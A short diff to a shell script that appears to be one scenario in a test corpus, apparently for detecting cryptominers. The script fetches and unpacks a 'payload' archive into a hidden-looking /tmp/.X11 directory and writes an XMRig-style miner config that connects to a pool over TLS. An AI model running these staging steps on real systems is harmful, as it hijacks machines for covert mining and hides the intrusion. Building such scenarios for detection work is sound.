@@ -1,4 +1,4 @@
-# 6: one packed binary without words on its command line: its configuration beside it, TLS to a proxy of its own.
+# 6: one binary that came packed, without words on its command line, run from memory: its configuration beside it, TLS to the pool.
 . /opt/corpus/scenarios/lib.sh
 mkdir -p /tmp/.X11 && cd /tmp/.X11 && fetch payload.tar.gz a.tar.gz && tar -xzf a.tar.gz && rm a.tar.gz
 printf '{"autosave":false,"cpu":true,"donate-level":1,"print-time":5,"colors":false,"pools":[{"url":"%s:%s","user":"c","pass":"x","algo":"rx/0","tls":true}]}' "$HOST" "$PORT" >config.json
